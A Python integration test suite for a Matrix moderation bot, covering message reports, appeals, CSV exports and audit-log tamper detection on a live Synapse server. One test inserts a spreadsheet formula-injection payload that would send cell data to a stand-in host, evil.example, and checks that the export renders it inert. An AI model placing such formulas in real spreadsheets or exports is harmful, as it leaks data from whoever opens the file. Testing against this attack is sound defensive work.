"""Reports, appeals and exports end to end on a real Synapse."""

from __future__ import annotations

import re

import pytest

from tests.integration.harness import Moderation, User
from tests.integration.test_sanctions import case_number

pytestmark = pytest.mark.integration


MOD_CONFIG = {"records": {"report_poll_seconds": 1}}


async def shared_room(mod: Moderation, *users: User) -> str:
    """A public room the bot is in (so it can read messages reported there); the bot accepts
    invites from moderators only."""
    status, room = await mod.moderator.create_room(preset="public_chat", name="Square", invite=[mod.bot_id])
    assert status == 200, room
    for user in users:
        await user.join(room["room_id"])
    await mod.command("!cases", "")  # a round trip: the bot has handled the invite by now
    return room["room_id"]


def report_number(message: dict) -> int:
    return int(re.search(r"#(\d+)", message["content"]["body"]).group(1))


async def test_reports_by_reply_and_by_link_merge_and_reach_the_moderators(gated, mod):
    alice, bob, carol = [await mod.member(name, gated.hs) for name in ("alice", "bob", "carol")]
    room = await shared_room(mod, bob, alice, carol)
    bad = await bob.say(room, "<b>buy</b> cheap pills at spam.example")
    # By reply, in the room itself.
    await alice.client.room_send(room, "m.room.message", {
        "msgtype": "m.text", "body": "!report selling drugs",
        "m.relates_to": {"m.in_reply_to": {"event_id": bad.event_id}},
    })
    thanks = await alice.wait_for_message(room, mod.bot_id, "has reached the moderators")
    number = report_number(thanks)
    notice = await mod.moderator.wait_for_message(mod.room, mod.bot_id, f"Report #{number}")
    body = notice["content"]["body"]
    assert "<b>buy</b> cheap pills" in body and "selling drugs" in body and bob.user_id in body
    assert "&lt;b&gt;buy" in notice["content"]["formatted_body"], "user text is escaped in HTML"
    # By link, from carol's DM with the bot: the same event merges into the same report.
    await carol.say(carol.dm, f"!report https://matrix.to/#/{room}/{bad.event_id}?via=localhost spam")
    await carol.wait_for_message(carol.dm, mod.bot_id, f"report #{number} has reached")
    await mod.moderator.wait_for_message(mod.room, mod.bot_id, "2 reporters now")
    listed = await mod.command("!reports", f"Report #{number}")
    assert alice.user_id in listed["content"]["body"] and carol.user_id in listed["content"]["body"]

    # Resolving with a sanction links a case, and the reporters are told without the moderator's name.
    reply = await mod.command(f"!resolve {number} warn {bob.user_id} drug spam", "Recorded and in effect")
    case = case_number(reply)
    told = await alice.wait_for_message(alice.dm, mod.bot_id, f"Your report #{number} was reviewed and action was taken")
    assert mod.moderator.user_id not in told["content"]["body"]
    shown = await mod.command(f"!case {case}", f"Case #{case}")
    assert "cheap pills" in shown["content"]["body"], "the reported message is the case's evidence"
    await mod.command(f"!resolve {number} dismiss again", f"Report #{number} has already been resolved")


async def test_a_report_needs_a_message_and_a_reason(gated, mod):
    alice = await mod.member("alice", gated.hs)
    await alice.say(alice.dm, "!report")
    await alice.wait_for_message(alice.dm, mod.bot_id, "Usage: !report")
    await alice.say(alice.dm, "!举报 just angry")
    await alice.wait_for_message(alice.dm, mod.bot_id, "reply to it with !report")


async def test_the_report_button_reaches_the_moderators_through_the_admin_api(gated, mod):
    alice, bob = await mod.member("alice", gated.hs), await mod.member("bob", gated.hs)
    room = await shared_room(mod, bob, alice)
    bad = await bob.say(room, "a message reported with the client's button")
    status, body = await alice.api("POST", f"/_matrix/client/v3/rooms/{room}/report/{bad.event_id}",
                                   {"reason": "harassment", "score": -100})
    assert status == 200, body
    # By this test's bob: a fresh bot also takes in the homeserver's earlier reports, this test's
    # run on the other backend's among them (the same text, other accounts).
    notice = await mod.moderator.wait_for_message(mod.room, mod.bot_id, f"a message by {bob.user_id}", timeout=30)
    assert "reported with the client's button" in notice["content"]["body"]
    assert "harassment" in notice["content"]["body"] and alice.user_id in notice["content"]["body"]


async def test_appeal_granted_ends_the_case_and_a_second_open_appeal_is_refused(gated, mod):
    dave = await mod.member("dave", gated.hs)
    case = case_number(await mod.command(f"!restrict {dave.user_id} 7d flooding", "Recorded and in effect"))
    await dave.wait_for_message(dave.dm, mod.bot_id, f"!appeal {case}")  # the notice names the command
    await dave.say(dave.dm, f"!appeal {case} it was a misunderstanding")
    thanks = await dave.wait_for_message(dave.dm, mod.bot_id, "has reached the moderators")
    appeal = int(re.search(r"appeal #(\d+)", thanks["content"]["body"]).group(1))
    await dave.say(dave.dm, f"!申诉 {case} please")
    await dave.wait_for_message(dave.dm, mod.bot_id, "already have an open appeal")
    await dave.say(dave.dm, "!appeal 9999 not mine")
    await dave.wait_for_message(dave.dm, mod.bot_id, "only a case of your own")
    await mod.moderator.wait_for_message(mod.room, mod.bot_id, f"Appeal #{appeal} on case #{case}")
    await mod.command(f"!grant {appeal} agreed, sorry", f"Appeal #{appeal} granted")
    await dave.wait_for_message(dave.dm, mod.bot_id, f"appeal #{appeal} on case #{case} was granted")
    status, room = await dave.create_room(name="free again")
    assert getattr(await dave.say(room["room_id"], "thanks"), "event_id", None)
    shown = await mod.command(f"!case {case}", f"Case #{case}")
    assert "lifted" in shown["content"]["body"]


async def test_export_uploads_a_csv_to_the_management_room(gated, mod):
    alice = await mod.member("alice", gated.hs)
    await mod.command(f"!warn {alice.user_id} first warning", "Recorded")
    await mod.command("!export cases", "Exported 1 cases row(s)")
    files = [e for e in mod.moderator.messages(mod.room, mod.bot_id) if e["content"].get("msgtype") == "m.file"]
    assert files and files[-1]["content"]["body"] == "cases-all.csv"
    status, data = await mod.moderator.download(files[-1]["content"]["url"])
    assert status == 200 and data.startswith("\ufeffid,target,kind".encode())
    assert "first warning" in data.decode("utf-8-sig")
    await mod.command("!export gossip", "Usage: !export")
    await mod.command("!stats", "Measures in the last 30 days: warning: 1")


async def test_records_hold_on_a_running_bot(gated, mod):
    """The bot's own files are owner-only, a spreadsheet formula in a reason reaches the CSV inert,
    and cutting the newest audit rows of the bot's real database is reported by `audit verify`."""
    import os
    import stat
    import subprocess
    import sys

    alice = await mod.member("alice", gated.hs)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
    await mod.command(f"!warn {alice.user_id} {formula}", "Recorded")
    await mod.command("!export cases", "Exported 1 cases row(s)")
    files = [e for e in mod.moderator.messages(mod.room, mod.bot_id) if e["content"].get("msgtype") == "m.file"]
    status, data = await mod.moderator.download(files[-1]["content"]["url"])
    assert status == 200
    text = data.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""open me"")"' in text, text
    assert f"'{alice.user_id}" in text

    workdir = mod.bot.workdir
    # On PostgreSQL the records are the server's; the head file is still the bot's own.
    own = ("bot.db", "bot.db-wal", "bot.db-shm", "bot.db.audit-head") if mod.bot.backend == "sqlite" else ("bot.db.audit-head",)
    modes = {name: stat.S_IMODE(os.stat(workdir / name).st_mode) for name in own}
    assert set(modes.values()) == {0o600}, modes

    def audit(*args):
        return subprocess.run([sys.executable, "-m", "bot", "audit", *args, "--config", str(mod.bot.config_path)],
                              capture_output=True, text=True, timeout=60)

    mod.bot.stop()  # nothing appends while the tail is cut
    head = audit("head")
    assert head.returncode == 0, head.stdout + head.stderr
    newest = int(head.stdout.split(":", 1)[0])
    assert newest >= 2  # the warning and the export at least
    await mod.bot.change("DELETE FROM audit_log WHERE id >= ?", (newest - 1,), past_append_only=True)
    cut = audit("verify")
    assert cut.returncode == 1, cut.stdout
    assert f"rows {newest - 1}..{newest} were removed" in cut.stdout, cut.stdout
